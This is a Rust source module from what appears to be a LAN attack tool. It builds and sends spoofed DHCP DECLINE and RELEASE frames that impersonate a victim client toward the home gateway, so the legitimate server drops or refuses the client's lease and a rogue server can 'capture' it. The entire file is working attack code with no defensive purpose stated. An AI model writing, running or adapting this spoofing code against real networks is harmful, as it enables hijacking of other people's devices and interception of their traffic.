//! Forged client packets against the competing DHCP server
//!
//! When the handler operates as a secondary server it impersonates the
//! client towards the home gateway to dislodge the real server's binding:
//! DECLINE makes the server mark the address in use, so the client's next
//! REQUEST draws a NAK and a fresh DISCOVER; RELEASE drops an existing
//! binding when hunting starts on an already-allocated host.
//!
//! Sends run on detached tasks over owned buffers and swallow transport
//! errors: a failed forged packet only delays the capture.

use super::options::{OPTION_CLIENT_ID, OPTION_REQUESTED_IP, OPTION_SERVER_ID};
use super::packet::{request_packet, MessageType};
use lanhound_core::{wellknown, Addr, MacAddr, PacketConn};
use rand::Rng;
use std::net::Ipv4Addr;
use std::sync::Arc;
use tracing::debug;

fn xid_or_random(xid: Option<[u8; 4]>) -> [u8; 4] {
    xid.unwrap_or_else(|| rand::thread_rng().gen())
}

/// Send a forged DECLINE for `ip` to the gateway, impersonating the client.
pub fn spawn_force_decline(
    conn: Arc<dyn PacketConn>,
    router: Addr,
    client_id: Vec<u8>,
    mac: MacAddr,
    ip: Ipv4Addr,
    xid: Option<[u8; 4]>,
) {
    let Some(router_ip) = router.ip4() else {
        return;
    };
    tokio::spawn(async move {
        let server = router_ip.octets();
        let requested = ip.octets();
        let dhcp = request_packet(
            MessageType::Decline,
            mac,
            Ipv4Addr::UNSPECIFIED,
            xid_or_random(xid),
            false,
            &[
                (OPTION_CLIENT_ID, &client_id[..]),
                (OPTION_SERVER_ID, &server[..]),
                (OPTION_REQUESTED_IP, &requested[..]),
            ],
        );
        let frame = super::dhcp_frame(
            mac,
            router.mac,
            Ipv4Addr::UNSPECIFIED,
            router_ip,
            wellknown::DHCP4_CLIENT_PORT,
            wellknown::DHCP4_SERVER_PORT,
            &dhcp,
        );
        debug!(%mac, %ip, gw = %router_ip, "sending forged decline");
        if let Err(e) = conn.write_frame(&frame) {
            debug!("forged decline send failed: {e}");
        }
    });
}

/// Send a forged RELEASE for `ip` to the gateway, impersonating the client.
pub fn spawn_force_release(
    conn: Arc<dyn PacketConn>,
    router: Addr,
    client_id: Vec<u8>,
    mac: MacAddr,
    ip: Ipv4Addr,
    xid: Option<[u8; 4]>,
) {
    let Some(router_ip) = router.ip4() else {
        return;
    };
    tokio::spawn(async move {
        let server = router_ip.octets();
        let dhcp = request_packet(
            MessageType::Release,
            mac,
            ip,
            xid_or_random(xid),
            false,
            &[
                (OPTION_CLIENT_ID, &client_id[..]),
                (OPTION_SERVER_ID, &server[..]),
            ],
        );
        let frame = super::dhcp_frame(
            mac,
            router.mac,
            ip,
            router_ip,
            wellknown::DHCP4_CLIENT_PORT,
            wellknown::DHCP4_SERVER_PORT,
            &dhcp,
        );
        debug!(%mac, %ip, gw = %router_ip, "sending forged release");
        if let Err(e) = conn.write_frame(&frame) {
            debug!("forged release send failed: {e}");
        }
    });
}
